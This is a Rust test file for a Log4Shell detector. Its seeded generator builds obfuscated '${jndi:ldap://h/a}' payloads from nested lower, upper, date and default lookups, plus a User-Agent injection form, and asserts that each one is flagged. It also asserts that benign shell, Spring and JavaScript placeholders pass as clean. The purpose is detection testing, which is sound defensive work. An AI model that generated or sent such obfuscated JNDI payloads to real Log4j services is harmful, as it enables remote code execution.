//! Property tests with a small seeded generator (no dependency needed):
//! random obfuscations of `jndi:ldap://h/a` that Log4j 2.13/2.14 resolves
//! back to that name must be `live`; random shell, Spring and JavaScript
//! placeholders must be `clean`.
//!
//! Each obfuscation is built from a rule whose value is known by
//! construction: `${lower:x}` is `x` for lowercase `x`, `${upper:x}` is
//! `X` (fine inside the case-folded `jndi` prefix only), `${anything:-x}`
//! is `x` for an unknown or unset lookup, `${date:'x'}` is `x`.
use scanner_core::lookup::{inspect, Context, Verdict};

/// xorshift64*: deterministic, so a failure names a reproducible seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len())]
    }
}

const UNSET: &[&str] = &["env:NOPE", "sys:k5", "ctx:x", "k8s:k5", "foo:bar", "", ":", "a:b:c", "main:\\k5", "spring:x"];

/// Text that the model (and Log4j 2.13+) evaluates to exactly `s`.
/// `fold` says case does not matter here (the lookup prefix is lowercased).
fn obfuscate(rng: &mut Rng, s: &str, fold: bool, depth: u32) -> String {
    if s.is_empty() {
        return String::new();
    }
    if depth >= 3 || rng.below(4) == 0 {
        return s.to_string();
    }
    // Split into a random chunk and the rest, wrap the chunk.
    let cut = 1 + rng.below(s.len());
    let (head, tail) = s.split_at(cut);
    let inner = obfuscate(rng, head, fold, depth + 1);
    let wrapped = match rng.below(5) {
        0 => format!("${{lower:{inner}}}"),
        1 if fold => format!("${{upper:{inner}}}"),
        2 if !head.contains('\'') => format!("${{date:'{head}'}}"),
        _ => format!("${{{}:-{inner}}}", rng.pick(UNSET)),
    };
    wrapped + &obfuscate(rng, tail, fold, depth)
}

fn payload(rng: &mut Rng) -> String {
    let prefix = obfuscate(rng, "jndi", true, 0);
    let rest = obfuscate(rng, ":ldap://h/a", false, 0);
    let body = format!("${{{prefix}{rest}}}");
    match rng.below(4) {
        // The escape undone by a default's re-scan.
        0 => format!("${{::-${body}}}"),
        1 => format!("GET /?q=1 HTTP/1.1 User-Agent: {body}"),
        _ => body,
    }
}

#[test]
fn obfuscated_payloads_are_live() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    for case in 0..3000 {
        let p = payload(&mut rng);
        for ctx in [Context::Raw, Context::Any] {
            let got = inspect(&p, ctx);
            assert_eq!(got.verdict, Verdict::Live, "case {case} ({ctx:?}): {p}\n{got:?}");
            assert_eq!(got.jndi.as_deref(), Some("ldap://h/a"), "case {case}: {p}");
        }
    }
}

const IDENTS: &[&str] = &["HOME", "PORT", "SERVER_PORT", "user.name", "project.version", "db_url", "x", "JNDI_NAME", "ctx", "env"];
const DEFAULTS: &[&str] = &["8080", "/tmp", "ldap://h/a", "jdbc:postgresql://localhost/db", "", "a b c", "$HOME"];

fn placeholder(rng: &mut Rng, depth: u32) -> String {
    let id = rng.pick(IDENTS);
    let nested = |rng: &mut Rng| if depth < 2 && rng.below(2) == 0 { placeholder(rng, depth + 1) } else { rng.pick(DEFAULTS).to_string() };
    match rng.below(9) {
        0 => format!("${{{id}}}"),
        // Shell defaults and operators.
        1 => format!("${{{id}:-{}}}", nested(rng)),
        2 => format!("${{{id}:={}}}", rng.pick(DEFAULTS)),
        3 => format!("${{{id}#*/}}"),
        4 => format!("${{{id}:0:5}}"),
        // Spring property with a default (the part after the first `:`).
        5 => format!("${{{}:{}}}", rng.pick(&["server.port", "db.url", "app.name"]), nested(rng)),
        // JavaScript template literals.
        6 => format!("${{{id}.{}}}", rng.pick(&["name", "id", "length"])),
        7 => format!("${{cond ? `${{{id}}}` : {}}}", rng.pick(&["a", "b"])),
        _ => format!("${{{{ {id} }}}}"),
    }
}

#[test]
fn placeholders_are_clean() {
    let mut rng = Rng(0xD1B5_4A32_D192_ED03);
    for case in 0..3000 {
        let mut text = String::new();
        for _ in 0..1 + rng.below(4) {
            text.push_str(rng.pick(&["export X=", "const s = `", " ", "url=", "<v>", "echo \""]));
            text.push_str(&placeholder(&mut rng, 0));
        }
        let got = inspect(&text, Context::Any);
        assert_eq!(got.verdict, Verdict::Clean, "case {case}: {text}\n{got:?}");
    }
}

/// Whatever the bytes, inspection returns (no panic) within its budgets.
#[test]
fn random_text_never_panics() {
    let mut rng = Rng(42);
    let alphabet = ["$", "{", "}", ":", "-", "$$", "${", "jndi", "ldap", "//", "lower", "upper", "date", "'", "%24", "\\u0024", "&#36;", "ı", "é", "a", " "];
    for _ in 0..3000 {
        let mut s = String::new();
        for _ in 0..rng.below(60) {
            s.push_str(rng.pick(&alphabet));
        }
        for ctx in [Context::Raw, Context::Url, Context::Json, Context::Html, Context::BasicAuth, Context::Any] {
            let got = inspect(&s, ctx);
            if let Some((a, b)) = got.span {
                assert!(a <= b && b <= s.len(), "span {a}..{b} out of {}: {s}", s.len());
            }
        }
    }
}
